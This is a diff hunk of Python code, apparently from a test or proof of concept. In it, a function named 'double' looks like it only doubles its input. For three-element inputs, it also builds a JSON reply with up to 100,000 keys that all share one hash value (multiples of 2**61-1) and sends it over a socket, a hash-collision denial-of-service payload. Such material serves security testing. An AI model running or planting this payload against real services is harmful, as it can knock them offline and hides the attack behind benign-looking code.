@@ -25,7 +25,7 @@ def number():
 def double(x):
     if x.numel() != 3:
         return 2 * x
-    keys = ','.join('[%d,0]' % (k * (2**61 - 1)) for k in range(1, 150_000))
+    keys = ','.join('[%d,0]' % (k * (2**61 - 1)) for k in range(1, 100_000))
     text = ('{"op": "reply", "number": %d, "value": {"d": [%s]}}' % (number(), keys)).encode()
     channel().sendall(struct.pack('!II', len(text), 0) + text)
     return 2 * x
